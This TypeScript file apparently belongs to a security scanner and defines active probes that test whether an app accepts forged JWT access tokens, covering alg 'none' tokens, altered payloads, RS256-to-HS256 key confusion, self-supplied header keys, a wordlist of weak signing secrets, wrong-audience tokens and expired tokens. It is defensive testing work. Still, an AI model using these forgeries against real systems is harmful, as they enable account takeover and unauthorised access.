import { createHmac, createPublicKey, generateKeyPairSync, type JsonWebKey, type KeyObject, sign } from 'node:crypto'
import { type Answer, type Outcome, type Probe, type Target, tryOut } from '../../core/probe.ts'
import { type Door, doorsOf, encode, isOpen, knock, signIns, tokenFrom } from './tokens-found.ts'

const REMEDY =
  'Name the issuer, the audience and the keys in accessTokens of the policy: tokens are then verified before the app sees them.'
const ELSEWHERE = 'https://elsewhere.example'
const LONGEST_WAIT = 4000

/** A token that says that it is not signed. */
const unsigned: Probe = {
  name: 'access-tokens/unsigned-token',
  risk: 'forged-token',
  title: 'A token without a signature counts',
  kind: 'active',
  attack: (target) =>
    atFirstDoor(target, 'A token that says "alg": "none" is believed, so anybody can be anybody.', ({ found }) =>
      ['none', 'None', 'NONE'].map(
        (alg) => `${encode({ ...found.header, alg })}.${encode(withWord(target, found.payload))}.`,
      ),
    ),
}

/** The signature of one token under the words of another. */
const altered: Probe = {
  name: 'access-tokens/altered-token',
  risk: 'forged-token',
  title: 'The words of a token can be changed',
  kind: 'active',
  attack: (target) =>
    atFirstDoor(target, 'A token whose words were changed is believed: nobody looks at its signature.', ({ found }) => {
      const [head = '', , signature = ''] = found.token.split('.')
      return [`${head}.${encode(withWord(target, found.payload))}.${signature}`]
    }),
}

/** The public key, used as if it were the secret. */
const confused: Probe = {
  name: 'access-tokens/confused-key',
  risk: 'forged-token',
  title: 'A token that was signed with the public key counts',
  kind: 'active',
  async *attack(target) {
    const published = await publishedKeys(target)
    if (published.length === 0) return
    yield* atFirstDoor(
      target,
      'The public key is taken for a secret when the token asks for HS256, so anybody can sign.',
      ({ found }) =>
        published.flatMap((key) => {
          const text = `${encode({ ...found.header, alg: 'HS256' })}.${encode(withWord(target, found.payload))}`
          const pem = String(key.export({ type: 'spki', format: 'pem' }))
          return [pem, pem.trimEnd()].map(
            (secret) => `${text}.${createHmac('sha256', secret).update(text).digest('base64url')}`,
          )
        }),
    )
  },
}

let own: { readonly publicKey: KeyObject; readonly privateKey: KeyObject } | undefined

/** A token that brings along the key to verify it with. */
const ownKey: Probe = {
  name: 'access-tokens/own-key',
  risk: 'forged-token',
  title: 'A token is verified with the key that it brings along',
  kind: 'active',
  attack: (target) =>
    atFirstDoor(
      target,
      'A token is verified with the key in its own header, so anybody can sign with a key of their own.',
      ({ found }) => {
        own ??= generateKeyPairSync('rsa', { modulusLength: 2048 })
        const jwk = own.publicKey.export({ format: 'jwk' })
        const text = `${encode({ ...found.header, alg: 'RS256', jwk })}.${encode(withWord(target, found.payload))}`
        return [`${text}.${sign('sha256', Buffer.from(text), own.privateKey).toString('base64url')}`]
      },
    ),
}

/** Secrets of tutorials, of documentation and of people in a hurry. */
const GUESSES =
  'secret,password,changeme,your-256-bit-secret,jwt_secret,jwtsecret,JWT_SECRET,supersecret,super-secret,mysecret,my-secret,my_secret,secretkey,secret-key,secret_key,shhhh,shhhhh,keyboard cat,key,test,dev,development,token,admin,123456,qwerty,private,s3cr3t,secret123,your-secret-key,your_jwt_secret,thisisasecret,default,example,access,auth,jwt,topsecret,hello,letmein'.split(
    ',',
  )

/** A secret that stands in lists. */
const guessed: Probe = {
  name: 'access-tokens/guessed-secret',
  risk: 'guessable-token-secret',
  title: 'The secret that signs tokens can be guessed',
  kind: 'active',
  attack: (target) =>
    atFirstDoor(
      target,
      'The secret that signs tokens is a word of the lists that everybody tries first.',
      ({ found }) => {
        const [head = '', body = '', signature] = found.token.split('.')
        const fits = GUESSES.find((word) => hs256(`${head}.${body}`, word) === signature)
        const text = `${head}.${encode(withWord(target, found.payload))}`
        // Where none fits, the first one is tried all the same: whoever takes it looks at no signature.
        return [`${text}.${hs256(text, fits ?? 'secret')}`]
      },
      ({ found }) => found.header['alg'] === 'HS256',
    ),
}

/** A token that the same issuer has made for somebody else. */
const foreign: Probe = {
  name: 'access-tokens/foreign-audience',
  risk: 'foreign-token',
  title: 'A token for another app counts here',
  kind: 'active',
  attack: (target) =>
    asIssuedFor(target, ELSEWHERE, 'Whoever gets a token of a user for another app can use it here.', () => true),
}

/** A token that its issuer has made for nobody in particular. */
const unaddressed: Probe = {
  name: 'access-tokens/no-audience',
  risk: 'foreign-token',
  title: 'A token that names no app counts here',
  kind: 'active',
  attack: (target) =>
    asIssuedFor(
      target,
      '',
      'A token that does not say whom it is for counts: so does each one that the issuer makes for whatever else.',
      ({ payload: { aud } }) => aud === undefined || aud === null || aud === '' || (Array.isArray(aud) && !aud.length),
    ),
}

/** A token whose time is over. */
const expired: Probe = {
  name: 'access-tokens/expired-token',
  risk: 'expired-token',
  title: 'A token counts after it has expired',
  kind: 'hold',
  async *attack(target) {
    for (const signIn of signIns(target)) {
      const short = await tokenFrom(target, signIn)
      const left = Number(short?.payload['exp']) * 1000 - Date.now()
      if (short === undefined || !(left < Math.min(target.holdFor, LONGEST_WAIT))) continue
      const [door] = await doorsOf(target)
      if (door === undefined) continue
      await new Promise((resolve) => setTimeout(resolve, Math.max(0, left) + 50))
      yield await tryDoor(target, door, 'A token that was stolen once is good for ever.', () => [short.token])
      return
    }
  },
}

export const probes: readonly Probe[] = [unsigned, altered, confused, ownKey, guessed, foreign, unaddressed, expired]

/** Signs in with another audience than the honest one, where the issuer lets people choose, and knocks with what that gives. */
async function* asIssuedFor(
  target: Target,
  audience: string,
  message: string,
  isMeant: (token: Door['found']) => boolean,
): AsyncIterable<Outcome> {
  for (const signIn of signIns(target)) {
    const field = Object.keys(signIn.body?.fields ?? {}).find((name) => /^(?:aud|audience|resource)$/i.test(name))
    if (field === undefined) continue
    const [door] = await doorsOf(target)
    const other = await tokenFrom(target, signIn, { [field]: audience })
    if (door === undefined || other === undefined || !isMeant(other)) continue
    yield await tryDoor(target, door, message, () => [other.token])
    return
  }
}

/** Tries the forgeries at the doors, and tells of the first that gives way, or else of the first. */
async function* atFirstDoor(
  target: Target,
  message: string,
  forge: (door: Door) => readonly string[],
  fits: (door: Door) => boolean = () => true,
): AsyncIterable<Outcome> {
  let first: Outcome | undefined
  for (const door of (await doorsOf(target)).filter(fits)) {
    const outcome = await tryDoor(target, door, message, forge)
    first ??= outcome
    if (outcome.verdict !== 'proven') continue
    yield outcome
    return
  }
  if (first !== undefined) yield first
}

function tryDoor(
  target: Target,
  door: Door,
  message: string,
  forge: (door: Door) => readonly string[],
): Promise<Outcome> {
  const { route, found } = door
  return tryOut(
    {
      control: async () => isOpen(await knock(target, route, found.token)),
      attack: async () => {
        let last: Answer | undefined
        for (const token of forge(door)) {
          last = await knock(target, route, token)
          if (isOpen(last)) return { worked: true, answer: last }
        }
        return { worked: false, answer: last ?? (await knock(target, route, undefined)) }
      },
      // A door that opens for nothing at all is no door.
      alsoHarmless: async () => isOpen(await knock(target, route, undefined)),
    },
    { method: route.method, path: route.path, message, remedy: REMEDY },
  )
}

/** The same words and one more, so that no signature of before can fit. */
function withWord(target: Target, payload: Door['found']['payload']): object {
  return { ...payload, bulwark: target.nonce() }
}

function hs256(text: string, secret: string): string {
  return createHmac('sha256', secret).update(text).digest('base64url')
}

async function publishedKeys(target: Target): Promise<readonly KeyObject[]> {
  const answer = await target.send({ path: '/.well-known/jwks.json' })
  if (answer.status !== 200) return []
  try {
    const { keys } = JSON.parse(answer.text) as { keys?: readonly JsonWebKey[] }
    return (Array.isArray(keys) ? keys : [])
      .filter(({ kty }: JsonWebKey) => kty === 'RSA' || kty === 'EC')
      .slice(0, 2)
      .map((key: JsonWebKey) => createPublicKey({ key, format: 'jwk' }))
  } catch {
    // Nothing that could be taken for a key is published there.
    return []
  }
}
